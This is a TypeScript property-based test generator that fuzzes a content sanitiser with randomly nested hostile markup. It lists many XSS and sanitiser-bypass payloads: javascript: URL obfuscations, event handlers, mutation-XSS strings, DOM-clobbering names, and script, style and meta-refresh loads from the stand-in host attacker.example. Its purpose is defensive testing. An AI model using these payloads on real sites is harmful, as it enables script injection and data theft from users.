import fc from 'fast-check'

/*
 * Documents as an attacker would write them into a content pack (X-SEC-01): fragments of every attack family, randomly
 * nested and unclosed. Code calls `attacked`; requests go to `attacker.example`.
 */

const CALL = 'attacked()'
const OUTSIDE = 'https://attacker.example/'

const nothing = fc.constant('')
const pick = <const A extends string>(...values: readonly A[]) => fc.constantFrom(...values)
const joined = (...parts: readonly fc.Arbitrary<string>[]) => fc.tuple(...parts).map((texts) => texts.join(''))
const several = (part: fc.Arbitrary<string>, maxLength: number) =>
  fc.array(part, { minLength: 1, maxLength }).map((texts) => texts.join(''))

/** Mixes upper and lower case, which parsers ignore. */
const anyCase = (text: fc.Arbitrary<string>) =>
  fc
    .tuple(text, fc.array(fc.boolean(), { minLength: 12, maxLength: 12 }))
    .map(([word, upper]) => [...word].map((sign, at) => (upper[at % 12] === true ? sign.toUpperCase() : sign)).join(''))

/** Separators between a tag and its attributes, as accepted by some parser. */
const gap = pick(' ', '/', '\t', '\n', '\f', ' / ', '\r\n', ' \0', '//')
const quoted = (value: fc.Arbitrary<string>) =>
  fc.tuple(value, pick('"', "'", '', '`')).map(([text, mark]) => `${mark}${text}${mark}`)

/** Writes each character as itself or as a reference, terminated or not. */
const referenced = (text: string) =>
  fc.array(pick('', 'dec', 'hex', 'long', 'open'), { minLength: text.length, maxLength: text.length }).map((ways) =>
    [...text]
      .map((sign, at) => {
        const code = sign.codePointAt(0) ?? 0
        const way = ways[at]
        if (way === 'dec') return `&#${code};`
        if (way === 'hex') return `&#x${code.toString(16)};`
        if (way === 'long') return `&#${String(code).padStart(8, '0')};`
        return way === 'open' ? `&#${code}` : sign
      })
      .join(''),
  )

/** Addresses that run code, and addresses that send requests. */
export const hostileAddress: fc.Arbitrary<string> = fc.oneof(
  referenced(`javascript:${CALL}`),
  anyCase(pick('javascript:', 'vbscript:', 'livescript:')).map((scheme) => scheme + CALL),
  pick(
    'java\tscript:',
    'java\nscript:',
    ' javascript:',
    '\u0001javascript:',
    'javascript&colon;',
    'java&Tab;script:',
  ).map((scheme) => scheme + CALL),
  pick(
    `data:text/html,<script>parent.${CALL}</script>`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
    `data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+`,
    `blob:${OUTSIDE}1`,
    `filesystem:${OUTSIDE}x`,
    `view-source:${OUTSIDE}`,
    'about:blank',
    OUTSIDE,
    '//attacker.example/x',
    '\\\\attacker.example\\x',
    '/\\attacker.example/x',
    'https:attacker.example',
    'http://user@attacker.example:80/',
    'https://xn--attacker.example/',
    'http://127.0.0.1:1/',
    'http://[::1]/',
    'https://\u202eelpmaxe.rekcatta/',
    'mailto:a@attacker.example?bcc=b@attacker.example',
    'tel:0123456789;ext=1',
    '#x',
  ),
)

const handler = fc
  .tuple(
    anyCase(
      pick('onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart',
        'onpointerover', 'oncontentvisibilityautostatechange', 'onbeforetoggle', 'onscrollend', 'onpageshow', 'onx'),
    ),
    quoted(pick(CALL, `javascript:${CALL}`, '&#97;ttacked()', 'eval(name)')),
  )
  .map(([name, value]) => `${name}=${value}`) // prettier-ignore

const address = fc
  .tuple(
    anyCase(
      pick('href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'poster', 'background', 'data', 'cite', 'ping',
        'srcdoc', 'code', 'codebase', 'lowsrc', 'longdesc', 'manifest', 'imagesrcset', 'to', 'values', 'from', 'usemap'),
    ),
    quoted(hostileAddress),
  )
  .map(([name, value]) => `${name}=${value}`) // prettier-ignore

const style = quoted(
  pick(
    `background:url(${OUTSIDE}s)`,
    `background:url(javascript:${CALL})`,
    `width:expression(${CALL})`,
    '-moz-binding:url(//attacker.example/x#y)',
    'position:fixed;inset:0;z-index:9999;background:red',
    'animation-name:x;content:url(//attacker.example/c)',
    '@import//attacker.example',
  ),
).map((value) => `style=${value}`)

/** Names that shadow members of a form or of the document. */
const clobber = fc
  .tuple(
    pick('id', 'name', 'for', 'form', 'itemid', 'slot', 'part', 'is'),
    pick(
      'attributes',
      'parentNode',
      'childNodes',
      'nodeName',
      'body',
      'location',
      'attacked',
      'removeChild',
      '__proto__',
    ),
  )
  .map(([name, value]) => `${name}=${value}`)

const odd = pick('autofocus', 'tabindex=1', 'contenteditable', 'open', 'popover', 'popovertarget=x', 'shadowrootmode=open',
  'encoding=text/html', 'attributeName=href', 'begin=0', 'dur=1s', 'http-equiv=refresh', `content="0;url=${OUTSIDE}"`,
  'rel=stylesheet', 'type=image', 'target=_top', 'allow=fullscreen', 'sandbox', 'title="--><img src=x onerror=attacked()>"',
  'title="</noscript><img src=x onerror=attacked()>"', 'alt="`><script>attacked()</script>"', 'x=<!--', '"', "'") // prettier-ignore

const attributes = several(joined(gap, fc.oneof(handler, address, style, clobber, odd)), 4)

/** HTML elements with behaviour, or with content that is not parsed as markup. */
const html = ['a', 'abbr', 'audio', 'base', 'body', 'button', 'details', 'dialog', 'div', 'embed', 'form', 'frame',
  'frameset', 'head', 'html', 'iframe', 'image', 'img', 'input', 'isindex', 'keygen', 'link', 'marquee', 'meta',
  'noembed', 'noframes', 'noscript', 'object', 'option', 'p', 'plaintext', 'portal', 'script', 'select', 'selectmenu',
  'slot', 'source', 'style', 'table', 'td', 'template', 'textarea', 'title', 'tr', 'ul', 'video', 'xmp', 'x-y'] as const // prettier-ignore
/** Elements of the SVG and MathML namespaces, and those that switch between namespaces. */
const foreign = ['svg', 'math', 'mtext', 'mi', 'mglyph', 'malignmark', 'annotation-xml', 'foreignObject', 'desc', 'animate',
  'set', 'use', 'script', 'style', 'title', 'a', 'image', 'maction', 'semantics', 'mstyle', 'handler'] as const // prettier-ignore

const element = anyCase(pick(...html, ...foreign))
const open = fc.tuple(pick('<', '<', '<', '<<', '<\0', '\u3008'), element, fc.oneof(nothing, attributes), pick('>', '>', '/>', '', ' ')).map((parts) => parts.join('')) // prettier-ignore
const close = element.map((name) => `</${name}>`)
const words = pick('Words', CALL, '\u202eesrever\u202c', '\u2066x\u2069', '&lt;script&gt;attacked()&lt;/script&gt;', '&amp;lt;img src=x&gt;', '\0', '\ufeff', '{{attacked()}}', `\${${CALL}}`) // prettier-ignore
const comment = pick('<!--', '-->', '--!>', '<!-->', '<!--->', '<![CDATA[', ']]>', '<?xml-stylesheet href="//attacker.example/x"?>', '<!DOCTYPE x [<!ENTITY y "z">]>', '<%', '</', '<!') // prettier-ignore
const raw = pick(
  `<script>${CALL}</script>`,
  `<script src=${OUTSIDE}x.js></script>`,
  `<style>@import "${OUTSIDE}x.css"; * { position: fixed }</style>`,
  `<style><!--</style><img title="--><img src=x onerror=${CALL}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<svg><desc><![CDATA[</desc><script>${CALL}</script>]]></svg>`,
  `<template><script>${CALL}</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${CALL}>">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<svg><animate attributeName=href values=javascript:${CALL} /><a id=x><rect width=9 height=9 /></a>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x">`,
  `<a href="javascript:${CALL}" ping=${OUTSIDE}>press</a>`,
  `<img src=${OUTSIDE}p.png srcset="${OUTSIDE}q.png 2x">`,
  `<video poster=${OUTSIDE}p><source src=x onerror=${CALL}><track src=${OUTSIDE}t></video>`,
  `<link rel=prefetch href=${OUTSIDE}><link rel=dns-prefetch href=//attacker.example>`,
  `<meta http-equiv=refresh content="0;url=${OUTSIDE}"><base href=${OUTSIDE}>`,
  `<input type=image src=${OUTSIDE}i formaction=javascript:${CALL}>`,
)

/** Generates a document of such fragments in random order. */
export const hostileMarkup: fc.Arbitrary<string> = several(
  fc.oneof(
    { arbitrary: open, weight: 6 },
    { arbitrary: close, weight: 3 },
    { arbitrary: raw, weight: 2 },
    { arbitrary: words, weight: 2 },
    { arbitrary: comment, weight: 1 },
  ),
  12,
)
